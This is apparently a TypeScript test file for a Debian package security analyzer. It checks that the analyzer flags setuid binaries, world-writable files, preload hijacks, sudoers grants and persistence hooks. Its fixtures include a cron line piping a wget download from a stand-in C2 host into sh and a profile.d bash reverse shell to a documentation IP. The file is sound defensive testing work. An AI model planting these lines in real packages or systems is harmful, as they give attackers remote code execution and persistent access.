import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseDeb } from '../../../src/formats/debian/deb.js';
import type { Action } from '../../../src/security/policy.js';
import type { AnalyzerFinding, ContentView } from '../../../src/security/types.js';
import { buildDeb, type BuiltDeb, type DebFileSpec } from '../../formats/debian/build-deb.js';
import { analyzeDeb, analyzeDebView, describe as list, verdictOf } from './helpers.js';

// Real packages built by dpkg-deb and read back through parseDeb, as the gate will see them.

async function viewOfDeb(files: DebFileSpec[], controlFiles: Record<string, string> = {}): Promise<{ view: ContentView; files: unknown[]; built: BuiltDeb }> {
  const built = await buildDeb({ name: 'demo', files, controlFiles });
  const contents = await parseDeb(built.data, undefined, { view: true });
  if (contents.view === undefined) throw new Error('parseDeb returned no view');
  return { view: contents.view, files: contents.files, built };
}

interface Case {
  name: string;
  files: DebFileSpec[];
  rule: string;
  file: string;
  line?: number;
  severity: AnalyzerFinding['severity'];
  action: Action;
}

const cases: Case[] = [
  { name: 'setuid program in usr/bin', files: [{ path: '/usr/bin/demo-mount', body: 'ELF', mode: 0o4755 }], rule: 'os-packages/setuid', file: 'usr/bin/demo-mount', severity: 'medium', action: 'warn' },
  { name: 'setgid helper under usr/lib', files: [{ path: '/usr/lib/demo/helper', body: 'ELF', mode: 0o2755 }], rule: 'os-packages/setuid', file: 'usr/lib/demo/helper', severity: 'medium', action: 'warn' },
  { name: 'setuid root program in opt', files: [{ path: '/opt/demo/agent', body: 'ELF', mode: 0o4755 }], rule: 'os-packages/setuid', file: 'opt/demo/agent', severity: 'high', action: 'warn' },
  { name: 'setuid shell copy', files: [{ path: '/usr/local/lib/demo/bash', body: 'ELF', mode: 0o4755 }], rule: 'os-packages/setuid', file: 'usr/local/lib/demo/bash', severity: 'critical', action: 'quarantine' },
  { name: 'world-writable config', files: [{ path: '/etc/demo/demo.conf', body: 'a=1\n', mode: 0o666 }], rule: 'os-packages/world-writable', file: 'etc/demo/demo.conf', severity: 'high', action: 'warn' },
  { name: 'world-writable data file', files: [{ path: '/var/lib/demo/state', body: 'x', mode: 0o666 }], rule: 'os-packages/world-writable', file: 'var/lib/demo/state', severity: 'medium', action: 'warn' },
  { name: 'world-writable directory without sticky bit', files: [{ path: '/var/lib/demo/drop', dir: true, mode: 0o777 }], rule: 'os-packages/world-writable', file: 'var/lib/demo/drop', severity: 'medium', action: 'warn' },
  { name: 'world-writable executable', files: [{ path: '/usr/bin/demo', body: '#!/bin/sh\n', mode: 0o777 }], rule: 'os-packages/world-writable', file: 'usr/bin/demo', severity: 'high', action: 'warn' },
  { name: 'ld.so.preload', files: [{ path: '/etc/ld.so.preload', body: '/usr/lib/demo/libhook.so\n' }], rule: 'os-packages/preload-hijack', file: 'etc/ld.so.preload', severity: 'critical', action: 'quarantine' },
  { name: "root's authorized_keys", files: [{ path: '/root/.ssh/authorized_keys', body: 'ssh-ed25519 AAAAC3Nza demo\n', mode: 0o600 }], rule: 'os-packages/authorized-keys', file: 'root/.ssh/authorized_keys', severity: 'critical', action: 'quarantine' },
  { name: 'sudoers.d granting everything', files: [{ path: '/etc/sudoers.d/demo', body: '# demo\ndemo ALL=(ALL:ALL) NOPASSWD: ALL\n', mode: 0o440 }], rule: 'os-packages/sudoers', file: 'etc/sudoers.d/demo', line: 2, severity: 'critical', action: 'quarantine' },
  { name: 'sudoers.d with a narrow rule', files: [{ path: '/etc/sudoers.d/demo', body: 'demo ALL=(root) NOPASSWD: /usr/sbin/demo-restart\n', mode: 0o440 }], rule: 'os-packages/sudoers', file: 'etc/sudoers.d/demo', line: 1, severity: 'high', action: 'warn' },
  { name: 'cron.d job, ordinary', files: [{ path: '/etc/cron.d/demo', body: '0 * * * * root /usr/sbin/demo-sync\n' }], rule: 'os-packages/cron-job', file: 'etc/cron.d/demo', severity: 'low', action: 'allow' },
  { name: 'cron.d job piping a download to sh', files: [{ path: '/etc/cron.d/demo', body: 'SHELL=/bin/sh\n*/10 * * * * root wget -q -O- http://c2.example.invalid/t | sh\n' }], rule: 'os-packages/download-execute', file: 'etc/cron.d/demo', line: 2, severity: 'critical', action: 'quarantine' },
  { name: 'cron.d job run from /tmp', files: [{ path: '/etc/cron.d/demo', body: '@reboot root /tmp/.cache/kworker\n' }], rule: 'os-packages/persistence', file: 'etc/cron.d/demo', line: 1, severity: 'high', action: 'quarantine' },
  { name: 'user crontab', files: [{ path: '/var/spool/cron/crontabs/root', body: '* * * * * /usr/bin/true\n', mode: 0o600 }], rule: 'os-packages/persistence', file: 'var/spool/cron/crontabs/root', severity: 'high', action: 'warn' },
  { name: 'profile.d snippet, ordinary', files: [{ path: '/etc/profile.d/demo.sh', body: 'export DEMO_HOME=/opt/demo\n' }], rule: 'os-packages/profile-script', file: 'etc/profile.d/demo.sh', severity: 'info', action: 'allow' },
  { name: 'profile.d reverse shell', files: [{ path: '/etc/profile.d/demo.sh', body: '# demo\n(bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &) 2>/dev/null\n' }], rule: 'os-packages/reverse-shell', file: 'etc/profile.d/demo.sh', line: 2, severity: 'critical', action: 'quarantine' },
  { name: 'rc.local', files: [{ path: '/etc/rc.local', body: '#!/bin/sh\n/usr/sbin/demo-boot\nexit 0\n', mode: 0o755 }], rule: 'os-packages/persistence', file: 'etc/rc.local', severity: 'medium', action: 'warn' },
];

describe('os-packages payload rules on real .debs', () => {
  const built: BuiltDeb[] = [];
  after(async () => {
    for (const b of built) await b.cleanup();
  });

  for (const c of cases) {
    it(c.name, async () => {
      const deb = await viewOfDeb(c.files);
      built.push(deb.built);
      const findings = await analyzeDebView(deb.view);
      const found = findings.filter((f) => f.rule === c.rule && f.location?.file === c.file && (c.line === undefined || f.location.line === c.line));
      assert.ok(found.length > 0, `expected ${c.rule} on ${c.file}${c.line ? `:${c.line}` : ''}, got:\n${list(findings)}`);
      assert.equal(found[0]?.severity, c.severity, list(found));
      assert.equal(verdictOf(findings).action, c.action, list(findings));
    });
  }
});

describe('os-packages payload rules using the owner list', () => {
  let deb: Awaited<ReturnType<typeof viewOfDeb>>;
  before(async () => {
    deb = await viewOfDeb([{ path: '/opt/demo/agent', body: 'ELF', mode: 0o4755 }]);
  });
  after(async () => deb.built.cleanup());

  it('a setuid program owned by a service user is medium, not high', async () => {
    const files = (deb.files as { path: string }[]).map((f) => (f.path === '/opt/demo/agent' ? { ...f, uid: 998, uname: 'demo' } : f));
    const findings = await analyzeDebView(deb.view, { files });
    const setuid = findings.find((f) => f.rule === 'os-packages/setuid');
    assert.equal(setuid?.severity, 'medium', list(findings));
  });

  it('parseDeb file lists pass through as the owner list (root-owned: high)', async () => {
    const findings = await analyzeDebView(deb.view, { files: deb.files });
    assert.equal(findings.find((f) => f.rule === 'os-packages/setuid')?.severity, 'high', list(findings));
  });

  it('reports device nodes the format lists', async () => {
    const findings = await analyzeDeb({ 'usr/bin/x': 'ELF' }, [], { files: [{ path: '/dev/demo0', type: 'block', mode: 0o666, uid: 0 }, { path: 42 }] });
    assert.deepEqual(findings.map((f) => [f.rule, f.location?.file]), [['os-packages/device-node', 'dev/demo0']]);
    assert.equal(verdictOf(findings).action, 'warn');
  });
});
